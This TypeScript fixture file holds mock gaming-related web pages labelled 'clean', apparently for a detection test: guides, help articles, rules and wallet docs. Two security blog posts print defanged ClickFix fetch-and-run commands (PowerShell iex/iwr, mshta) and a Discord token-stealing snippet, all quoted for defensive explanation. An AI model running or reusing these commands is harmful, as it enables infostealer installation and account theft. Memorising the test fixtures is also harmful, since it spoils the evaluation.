import { type Entry } from '../entry.js';
import { RAVEN_CSS, STEAM_CSS, doc, esc, ravenFooter, ravenLogo, steamMark } from '../parts/yc-kit.js';

export const entries: Entry[] = [
(() => {
  const cmds: [string, string][] = [
    ['bind "mouse4" "+jump;-attack;-jump"', 'Jump-throw bind (mouse 4). Works in matchmaking since the 2024 sub-tick update.'],
    ['cl_crosshairsize 2; cl_crosshairgap -3; cl_crosshairthickness 0.5; cl_crosshaircolor 1', 'Small green crosshair used by many pros.'],
    ['net_graph 1 / cq_netgraph 1', 'Shows ping, loss and frame time in the corner.'],
    ['viewmodel_fov 68; viewmodel_offset_x 2.5; viewmodel_offset_y 0; viewmodel_offset_z -1.5; viewmodel_presetpos 3', 'Classic viewmodel.'],
    ['sv_cheats 1; sv_infinite_ammo 1; sv_grenade_trajectory_prac_pipreview 1; bot_kick; mp_roundtime_defuse 60; mp_restartgame 1', 'Private practice server setup (only works on your own local server).'],
    ['fps_max 0; r_fullscreen_gamma 2.6', 'Uncapped FPS and brightness.'],
  ];
  return {
    id: 'yc-cs2-console-commands-guide',
    label: 'clean',
    kind: 'community-guide',
    url: 'https://steamcommunity.com/sharedfiles/filedetails/?id=3018446721',
    body: doc({
      title: 'Steam Community :: Guide :: CS2 — Every useful console command, bind and autoexec (2025)',
      css: STEAM_CSS + `.g{max-width:900px;margin:20px auto;background:#1b2838;padding:24px 30px}.g h2{color:#fff;font-weight:400;border-bottom:1px solid #2a475e;padding-bottom:6px}
.cmd{display:flex;gap:10px;align-items:center;background:#0e141b;border:1px solid #2a475e;padding:8px 10px;margin:8px 0}.cmd code{flex:1;color:#a4d007;font-family:Consolas,monospace;font-size:13px;word-break:break-all}
.cmd button{background:#2a475e;color:#c6d4df;border:0;padding:6px 10px;cursor:pointer}.note{color:#8f98a0;font-size:13px;margin:-2px 0 12px}
pre{background:#0e141b;border:1px solid #2a475e;padding:12px;color:#c6d4df;font-size:13px;overflow:auto}`,
      body: `<div class="global_header">${steamMark(44)}<nav><a href="https://store.steampowered.com/">Store</a><a href="https://steamcommunity.com/">Community</a><a href="https://store.steampowered.com/about/">About</a><a href="https://help.steampowered.com/">Support</a></nav><div></div></div>
<div class="g"><div style="color:#8f98a0;font-size:12px">Counter-Strike 2 &gt; Guides &gt; vortex's Guides</div><h1 style="color:#fff;font-weight:300">CS2 — Every useful console command, bind and autoexec (2025)</h1>
<p>★★★★★ 4,812 ratings · 212,409 unique visitors · 61,022 current favorites</p>
<h2>1. Enable the developer console</h2><p>Settings &rarr; Game &rarr; Enable Developer Console (~) &rarr; <b>Yes</b>. Press the <b>~</b> key (below Esc) in-game to open it. Nothing here touches your Windows system — these commands only change game settings and are saved in your Steam Cloud config.</p>
<h2>2. Commands (click copy, then paste into the CS2 console)</h2>
${cmds.map(([c, n]) => `<div class="cmd"><code>${esc(c)}</code><button data-c="${esc(c)}">Copy</button></div><div class="note">${esc(n)}</div>`).join('')}
<h2>3. autoexec.cfg</h2><p>Create <code>autoexec.cfg</code> in <code>Steam\\steamapps\\common\\Counter-Strike Global Offensive\\game\\csgo\\cfg\\</code> and add the following, then put <code>+exec autoexec</code> in launch options:</p>
<pre>// vortex autoexec 2025
rate 786432
cl_interp_ratio 1
snd_mixahead 0.025
bind "f" "+lookatweapon"
bind "mwheeldown" "+jump"
echo "autoexec loaded"</pre>
<h2>4. Practice config</h2><p>Load an offline map with bots from Play &rarr; Practice, then paste the practice command from section 2. <b>sv_cheats</b> cannot be enabled on Valve servers and will not get you banned on your own local server.</p>
<p style="color:#8f98a0;font-size:12px">Last updated: Jun 28 @ 4:12pm · Comments (1,204)</p></div>
<footer class="steam">&copy; Valve Corporation. All rights reserved.</footer>
<script>document.querySelectorAll('.cmd button').forEach(function(b){b.addEventListener('click',function(){navigator.clipboard.writeText(b.dataset.c).then(function(){b.textContent='Copied';setTimeout(function(){b.textContent='Copy'},1500)})})});</script>`,
    }),
  } satisfies Entry;
})(),
{
  id: 'yc-ravenhold-guard-troubleshooting-powershell',
  label: 'clean',
  kind: 'anticheat-help',
  url: 'https://support.ravenhold.com/hc/en-us/articles/4408812273041-Ravenhold-Guard-error-RG-4012-driver-could-not-start',
  body: doc({
    title: 'Ravenhold Guard error RG-4012: driver could not start – Ravenhold Support',
    css: RAVEN_CSS + `.w{max-width:820px;margin:30px auto;padding:0 18px;line-height:1.65}.crumb{font-size:13px;color:#8a8f98}
.cb{position:relative;background:#0b0c0f;border:1px solid #2a2e37;border-radius:8px;padding:14px 16px;margin:10px 0;font-family:Consolas,monospace;font-size:13px;color:#d6d8dd;white-space:pre-wrap}
.cb button{position:absolute;top:8px;right:8px;background:#262a33;color:#c9ccd3;border:0;border-radius:4px;padding:4px 8px;font-size:12px;cursor:pointer}
.warn{background:#2a1f0b;border-left:4px solid #f59e0b;padding:12px 14px;border-radius:4px;margin:16px 0;color:#f5d38a}`,
    body: `<div class="rh-top"><a href="https://ravenhold.com/">${ravenLogo(28)}</a><nav><a href="https://support.ravenhold.com/hc/en-us">Support home</a><a href="https://support.ravenhold.com/hc/en-us/requests/new">Submit a request</a></nav><span class="sp"></span></div>
<div class="w"><div class="crumb">Ravenhold Support &gt; Technical issues &gt; Anti-cheat</div><h1>Ravenhold Guard error RG-4012: driver could not start</h1>
<p>RG-4012 means the Ravenhold Guard kernel driver (<code>rhguard.sys</code>) did not load before the game asked for an integrity check. The most common causes are a pending Windows update, Core Isolation/Memory Integrity blocking an outdated third-party driver, or corrupted system files.</p>
<div class="warn"><b>Staying safe:</b> Ravenhold will never ask you to paste commands from a website pop-up, a Discord DM or a "verification" page into the Run dialog. The steps below are only for troubleshooting on your own, from this help center, and you can skip any of them. If a page told you to press Win + R to "verify" your account, close it and report it to <a href="https://ravenhold.com/report">ravenhold.com/report</a>.</div>
<h2>1. Check whether the service is installed</h2><p>Open <b>Windows PowerShell</b> from the Start menu and run:</p>
<div class="cb"><button data-c="Get-Service rhguard">Copy</button>Get-Service rhguard</div><p>If the status is <b>Stopped</b> and the start type is <b>Manual</b>, that's normal — the launcher starts it when you press Play.</p>
<h2>2. Repair Windows system files</h2><p>Open <b>Command Prompt as administrator</b> and run these one at a time. They are built-in Windows tools and can take 10–20 minutes:</p>
<div class="cb"><button data-c="sfc /scannow">Copy</button>sfc /scannow</div><div class="cb"><button data-c="DISM /Online /Cleanup-Image /RestoreHealth">Copy</button>DISM /Online /Cleanup-Image /RestoreHealth</div>
<h2>3. Reinstall Ravenhold Guard</h2><p>In the Ravenhold Launcher go to <b>Settings &rarr; Ironveil &rarr; Repair</b>. This re-registers the driver. Alternatively, uninstall "Ravenhold Guard" from <b>Settings &rarr; Apps</b> and start the game again; the launcher reinstalls it.</p>
<h2>4. Collect logs for Support</h2><div class="cb"><button data-c="Compress-Archive -Path &quot;$env:LOCALAPPDATA\\Ravenhold\\Guard\\logs\\*&quot; -DestinationPath &quot;$env:USERPROFILE\\Desktop\\rhguard-logs.zip&quot;">Copy</button>Compress-Archive -Path "$env:LOCALAPPDATA\\Ravenhold\\Guard\\logs\\*" -DestinationPath "$env:USERPROFILE\\Desktop\\rhguard-logs.zip"</div>
<p>Attach <code>rhguard-logs.zip</code> from your desktop to a <a href="https://support.ravenhold.com/hc/en-us/requests/new">support request</a>.</p>
<p style="color:#8a8f98;font-size:13px">Was this article helpful? 1,204 out of 1,388 found this helpful · Updated 3 days ago</p></div>
${ravenFooter()}
<script>document.querySelectorAll('.cb button').forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(b.dataset.c);b.textContent='Copied'}});</script>`,
  }),
},
{
  id: 'yc-secblog-clickfix-targets-gamers',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://www.sentrylane.io/blog/fake-anti-cheat-verification-clickfix-gamers',
  body: doc({
    title: 'Fake anti-cheat "verification" pages push infostealers to gamers | Sentrylane Research',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"IBM Plex Sans",Arial,sans-serif;color:#1a1f2b;background:#fff}
header{border-bottom:1px solid #e5e7eb;padding:16px 40px;display:flex;gap:24px;align-items:center}header b{font-size:20px}header a{color:#475569;text-decoration:none;font-size:14px}
article{max-width:760px;margin:34px auto;padding:0 20px;line-height:1.7}h1{font-size:34px;line-height:1.2}
pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;font-size:13px;white-space:pre-wrap;word-break:break-all}
table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #e5e7eb;padding:6px 8px;text-align:left}.meta{color:#64748b;font-size:14px}
blockquote{border-left:4px solid #6366f1;margin:0;padding:4px 16px;color:#334155}`,
    body: `<header><b>Sentrylane</b><a href="/blog">Research</a><a href="/platform">Platform</a><a href="/contact">Contact</a></header>
<article><p class="meta">Threat Research · 9 min read · By Ana Ferreira and Tomasz Wiśniewski</p><h1>Fake anti-cheat "verification" pages push infostealers to gamers</h1>
<p>Since May we have tracked a cluster of pages that imitate the anti-cheat prompts of popular competitive games. The lure arrives through Discord DMs ("your ranked queue is locked, verify here") and through compromised game wikis. Every page ends the same way: the victim is told to press <b>Win + R</b>, paste, and press Enter. The page has already placed a PowerShell one-liner on the clipboard. This technique is widely known as <i>ClickFix</i>.</p>
<h2>What the victim sees</h2><blockquote>System verification required — Error RG-4012: kernel integrity check could not complete. 1. Press Win + R 2. Press Ctrl + V 3. Press Enter.</blockquote>
<h2>What lands on the clipboard</h2><p>The copied text is padded with a comment so that the Run dialog only shows the harmless-looking tail. We've defanged the URLs:</p>
<pre>powershell -w h -nop -c "iex(iwr -useb 'hxxps://rg-verify-cdn[.]com/v/7f3a9c21.ps1')" # Ravenhold Guard Integrity Check - Session 7f3a9c21</pre>
<p>A second variant uses <code>mshta</code> with a remote HTA and a fake reCAPTCHA ID in the comment:</p>
<pre>mshta hxxps://eldenring-wiki[.]net/cdn-cgi/verify/8f2a61c9.hta # ✅ ''I am not a robot - Cloudflare Verification ID: 8f2a61c9be0d4a77''</pre>
<p>The second stage is Lumma Stealer in most samples and Vidar in a few. Both collect browser cookies and saved passwords, Steam <code>ssfn</code> files and <code>loginusers.vdf</code>, Discord tokens from <code>Local Storage\\leveldb</code>, and crypto wallet extensions.</p>
<h2>Indicators</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>ravenhold-ac-verify[.]com</td></tr><tr><td>Domain</td><td>rg-verify-cdn[.]com</td></tr><tr><td>Domain</td><td>eldenring-wiki[.]net</td></tr><tr><td>SHA-256</td><td>4be1f0c9e2d8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2</td></tr></table>
<h2>Advice for players and studios</h2><ul><li>No game, anti-cheat or CAPTCHA will ever ask you to paste anything into the Run dialog, PowerShell or Terminal.</li><li>Studios: publish this on your support pages, and consider blocking <code>powershell.exe</code> child processes of <code>explorer.exe</code> via ASR rules in managed environments.</li><li>If you ran the command: disconnect, change passwords from a clean device, revoke Discord sessions and Steam authorised devices.</li></ul>
<p class="meta">We thank the trust &amp; safety team at Ravenhold Interactive for sharing samples.</p></article>`,
  }),
},
{
  id: 'yc-ravenhold-sweepstakes-official-rules',
  label: 'clean',
  kind: 'giveaway-rules',
  url: 'https://ravenhold.com/legal/summer-showdown-sweepstakes-2025',
  body: doc({
    title: 'Summer Showdown Sweepstakes 2025 — Official Rules | Ravenhold',
    css: RAVEN_CSS + `.w{max-width:820px;margin:34px auto;padding:0 18px;line-height:1.7;color:#d6d8dd}.w h1{color:#fff}.w h2{font-size:17px;color:#fff;margin-top:26px}.w p,.w li{font-size:14px}`,
    body: `<div class="rh-top"><a href="https://ravenhold.com/">${ravenLogo(28)}</a><span class="sp"></span></div>
<div class="w"><h1>Ravenhold Summer Showdown Sweepstakes 2025 — Official Rules</h1>
<p><b>NO PURCHASE OR PAYMENT OF ANY KIND IS NECESSARY TO ENTER OR WIN. A PURCHASE OR PAYMENT WILL NOT INCREASE YOUR CHANCES OF WINNING. VOID WHERE PROHIBITED.</b></p>
<h2>1. Sponsor</h2><p>Ravenhold Interactive Ltd., 14 Foundry Lane, Manchester M4 6EQ, United Kingdom ("Sponsor").</p>
<h2>2. Eligibility</h2><p>Open to legal residents of the United States, Canada (excluding Quebec), the United Kingdom, the European Economic Area, Brazil and Australia who are 18 years of age or older (or the age of majority in their jurisdiction) at the time of entry and who hold a Ravenhold account in good standing.</p>
<h2>3. Sweepstakes period</h2><p>The Sweepstakes begins at 17:00 UTC on July 1, 2025 and ends at 16:59 UTC on July 31, 2025.</p>
<h2>4. How to enter</h2><p>Sign in on <a href="https://ravenhold.com/events/summer-showdown">ravenhold.com/events/summer-showdown</a> and click "Enter". Limit one (1) entry per person and per account. Alternative method of entry: hand-print your name, address, email and Ravenhold ID on a postcard and mail it to the Sponsor address above; postcards must be received by August 7, 2025.</p>
<h2>5. Prizes</h2><ul><li>Grand prize (1): a PlayStation 5 Pro console and Ironveil Collector's Edition (ARV US$1,049)</li><li>First prizes (25): 10,000 Embers in-game currency (ARV US$99 each)</li><li>Second prizes (500): exclusive "Solstice" weapon skin (ARV US$0)</li></ul>
<p>Winners are never required to pay shipping, customs or any fee to receive a prize. Sponsor will contact winners only through the email on their Ravenhold account and the in-launcher inbox; Sponsor will never contact winners through Discord DMs, social media messages or phone calls.</p>
<h2>6. Winner selection</h2><p>Winners will be selected in a random drawing on or about August 10, 2025 by an independent judging organisation whose decisions are final. Odds of winning depend on the number of eligible entries received.</p>
<h2>7. Privacy</h2><p>Information collected is used in accordance with the <a href="https://ravenhold.com/legal/privacy">Ravenhold Privacy Policy</a>.</p></div>
${ravenFooter()}`,
  }),
},
{
  id: 'yc-ronin-docs-connect-wallet-provider',
  label: 'clean',
  kind: 'wallet-docs',
  url: 'https://docs.roninchain.com/apps/ronin-wallet/integrate-with-extension',
  body: doc({
    title: 'Integrate with the Ronin Wallet extension | Ronin Docs',
    css: `*{box-sizing:border-box}body{margin:0;font-family:Inter,Arial,sans-serif;color:#1c1e21;display:grid;grid-template-columns:260px 1fr;min-height:100vh}
nav{background:#f6f7f9;border-right:1px solid #e3e5e8;padding:20px;font-size:14px}nav a{display:block;color:#444;text-decoration:none;padding:5px 0}nav a.on{color:#1273ea;font-weight:600}
main{max-width:840px;padding:30px 40px;line-height:1.65}pre{background:#0d1421;color:#dce3ee;padding:16px;border-radius:8px;overflow:auto;font-size:13px}code{font-family:"JetBrains Mono",Consolas,monospace}
.tip{background:#eaf3ff;border-left:4px solid #1273ea;padding:12px 14px;border-radius:4px;font-size:14px}.danger{background:#fff1f0;border-left:4px solid #e5484d;padding:12px 14px;border-radius:4px;font-size:14px;margin-top:14px}`,
    body: `<nav><b>Ronin Docs</b><br><br><a href="/basics">Basics</a><a href="/apps/ronin-wallet">Ronin Wallet</a><a class="on" href="#">Integrate with extension</a><a href="/apps/ronin-wallet/tanto-widget">Tanto widget</a><a href="/developers/smart-contracts">Smart contracts</a><a href="/validators">Validators</a></nav>
<main><h1>Integrate with the Ronin Wallet extension</h1><p>Ronin Wallet injects an EIP-1193 provider at <code>window.ronin.provider</code>. Your dApp should only request accounts in response to a user action such as clicking "Connect".</p>
<h2>Detect the provider</h2><pre><code>const provider = window.ronin?.provider;
if (!provider) {
  window.open('https://wallet.roninchain.com', '_blank');
}</code></pre>
<h2>Request accounts</h2><pre><code>connectButton.addEventListener('click', async () =&gt; {
  const accounts = await provider.request({ method: 'eth_requestAccounts' });
  const chainId = await provider.request({ method: 'eth_chainId' }); // 0x7e4 on mainnet
  setAccount(accounts[0]);
});</code></pre>
<h2>Sign in with Ronin (SIWE)</h2><p>Use a human-readable EIP-4361 message so users can see what they are signing:</p><pre><code>const message = \`app.axieinfinity.com wants you to sign in with your Ronin account:
\${address}

Sign in to Axie Infinity.

URI: https://app.axieinfinity.com
Version: 1
Chain ID: 2020
Nonce: \${nonce}
Issued At: \${new Date().toISOString()}\`;
const signature = await provider.request({ method: 'personal_sign', params: [message, address] });</code></pre>
<div class="tip">Prefer scoped token approvals. Request an allowance equal to the amount being spent instead of an unlimited approval.</div>
<div class="danger"><b>Security:</b> Ronin Wallet, Sky Mavis and Axie Infinity will never ask for your Secret Recovery Phrase. No "sync", "migration" or "validation" requires it. Apps must never display a field to enter a recovery phrase.</div>
<h2>Listen for changes</h2><pre><code>provider.on('accountsChanged', (a) =&gt; setAccount(a[0]));
provider.on('chainChanged', () =&gt; window.location.reload());</code></pre></main>`,
  }),
},
{
  id: 'yc-steam-help-trade-holds-es',
  label: 'clean',
  kind: 'help-article',
  url: 'https://help.steampowered.com/es/faqs/view/376F-8E74-FC82-9DD5',
  body: doc({
    title: 'Retenciones de intercambio y del mercado - Soporte de Steam',
    lang: 'es',
    css: STEAM_CSS + `.w{max-width:860px;margin:24px auto;background:#1b2838;padding:26px 32px;line-height:1.65}.w h1{color:#fff;font-weight:300}.w h2{color:#fff;font-weight:400;font-size:18px}`,
    body: `<div class="global_header">${steamMark(44)}<nav><a href="https://store.steampowered.com/">Tienda</a><a href="https://steamcommunity.com/">Comunidad</a><a href="https://help.steampowered.com/es/">Soporte</a></nav><div></div></div>
<div class="w"><h1>Retenciones de intercambio y del mercado</h1>
<p>Para proteger tus objetos, Steam puede retener un intercambio o un anuncio del Mercado de la Comunidad durante hasta 15 días si no tienes activado el Autenticador móvil de Steam Guard desde hace al menos 7 días.</p>
<h2>¿Por qué existe la retención?</h2><p>La mayoría de los robos de objetos ocurren cuando alguien inicia sesión en tu cuenta con tu contraseña y un código obtenido con engaños. La retención te da tiempo para darte cuenta y cancelar el intercambio.</p>
<h2>Servicios de "depósito" o "intermediario"</h2><p>Steam no ofrece ningún servicio de depósito en garantía (escrow) para intercambios entre usuarios y no trabaja con "bots intermediarios". Si alguien te pide que envíes tus objetos a un "bot de garantía" o que pagues una "tasa de seguro" para completar un trato, se trata de una estafa. Los agentes de Soporte de Steam nunca te contactarán por chat ni te pedirán tarjetas regalo.</p>
<h2>Cómo evitar la retención</h2><ol><li>Instala la aplicación móvil de Steam y activa el autenticador.</li><li>Espera 7 días tras activarlo.</li><li>Confirma tus intercambios desde la aplicación.</li></ol>
<p>Si has perdido objetos, consulta <a href="https://help.steampowered.com/es/faqs/view/7BA1-4A8E-8BB9-96D3">Objetos robados</a>.</p></div>
<footer class="steam">© Valve Corporation. Todos los derechos reservados.</footer>`,
  }),
},
{
  id: 'yc-secblog-discord-token-grabber-analysis',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://research.ravenhold.com/posts/anatomy-of-a-nitro-generator-token-stealer',
  body: doc({
    title: 'Anatomy of a "Nitro generator": how token stealers target our community | Ravenhold Security',
    css: RAVEN_CSS + `article{max-width:780px;margin:34px auto;padding:0 18px;line-height:1.7;color:#d6d8dd}article h1{color:#fff;font-size:32px;line-height:1.2}
pre{background:#0b0c0f;border:1px solid #2a2e37;border-radius:8px;padding:14px;overflow:auto;font-size:12.5px;color:#c9d1d9;white-space:pre-wrap}.meta{color:#8a8f98;font-size:13px}`,
    body: `<div class="rh-top"><a href="https://ravenhold.com/">${ravenLogo(28)}</a><nav><a href="https://research.ravenhold.com/">Security research</a></nav><span class="sp"></span></div>
<article><p class="meta">Trust &amp; Safety · July 2025</p><h1>Anatomy of a "Nitro generator": how token stealers target our community</h1>
<p>Every week our moderators remove links to "Nitro generators", "free Embers tools" and "Discord badge" pages from Ravenhold Hub. We took one apart so players know what they really do.</p>
<h2>1. The browser variant: self-XSS</h2><p>Some pages ask you to open Discord's developer console and paste a snippet. The snippet walks Discord's webpack module cache to find the function that returns your auth token, then posts it to the attacker:</p>
<pre>// DO NOT RUN — annotated sample, exfiltration URL removed
webpackChunkdiscord_app.push([[Symbol()], {}, r =&gt; {
  for (const m of Object.values(r.c)) {
    const t = m.exports?.default?.getToken?.();   // your session token
    if (typeof t === 'string') { /* fetch('https://[removed]/api/house/join', {method:'POST', body: t}) */ }
  }
}]);</pre>
<p>Discord shows a large red warning in the console for exactly this reason. A token is equivalent to your password <i>and</i> 2FA.</p>
<h2>2. The desktop variant</h2><p>The "generator" executable is usually a PyInstaller or Electron bundle. Strings from the sample we analysed:</p>
<pre>\\discord\\Local Storage\\leveldb
\\discordcanary\\Local Storage\\leveldb
dQw4w9WgXcQ:
Local State → os_crypt → encrypted_key
https://discord.com/api/webhooks/[id]/[token]
https://discord.com/api/v9/users/@me/billing/payment-sources</pre>
<p>It decrypts stored tokens with the key from <code>Local State</code>, injects code into <code>discord_desktop_core\\index.js</code> so it survives password changes, and reports to a Discord webhook.</p>
<h2>What to do</h2><ul><li>Never run "generators", "checkers" or "free currency" tools. They don't work — the codes are random.</li><li>If you ran one: change your Discord password (this invalidates tokens), reinstall Discord, and run a full antivirus scan.</li><li>Report links in Ravenhold Hub with right-click &rarr; Report.</li></ul></article>
${ravenFooter()}`,
  }),
},
{
  id: 'yc-steam-help-wallet-code-tr',
  label: 'clean',
  kind: 'help-article',
  url: 'https://help.steampowered.com/tr/faqs/view/7EF1-6CF7-E3B6-4E12',
  body: doc({
    title: 'Steam Cüzdan Kodları - Steam Destek',
    lang: 'tr',
    css: STEAM_CSS + `.w{max-width:860px;margin:24px auto;background:#1b2838;padding:26px 32px;line-height:1.65}.w h1{color:#fff;font-weight:300}.w h2{color:#fff;font-weight:400;font-size:18px}`,
    body: `<div class="global_header">${steamMark(44)}<nav><a href="https://store.steampowered.com/">Mağaza</a><a href="https://steamcommunity.com/">Topluluk</a><a href="https://help.steampowered.com/tr/">Destek</a></nav><div></div></div>
<div class="w"><h1>Steam Cüzdan Kodları</h1><p>Steam Cüzdan kodları, Steam Cüzdanınıza bakiye eklemek için kullanılan ön ödemeli kodlardır. Kodlar yetkili perakendecilerden veya Steam Dijital Hediye Kartı olarak satın alınabilir.</p>
<h2>Kod nasıl kullanılır?</h2><ol><li>Steam'e giriş yapın ve <a href="https://store.steampowered.com/account/redeemwalletcode">Steam Cüzdan Kodu Kullan</a> sayfasını açın.</li><li>Kartın arkasındaki 15 karakterlik kodu girin.</li><li><b>Devam</b>'a tıklayın; bakiye hemen hesabınıza eklenir.</li></ol>
<h2>Dolandırıcılıklara karşı uyarı</h2><p>Steam Destek ekibi hiçbir zaman bir cezayı, "iade bedelini" veya hesap kilidini ödemek için sizden Steam Cüzdan kodu istemez. Hesabınızın yasaklanacağını söyleyen ve kart kodu isteyen kişiler dolandırıcıdır. Kodu birine verdiğinizde geri alınamaz.</p>
<h2>Kod geçersiz görünüyorsa</h2><p>Kodu büyük harflerle ve tire işaretleriyle birlikte girdiğinizden emin olun. Sorun devam ederse fişinizle birlikte <a href="https://help.steampowered.com/tr/wizard/HelpWithWalletCode">Steam Destek</a>'e başvurun.</p></div>
<footer class="steam">© Valve Corporation. Tüm hakları saklıdır.</footer>`,
  }),
},
];
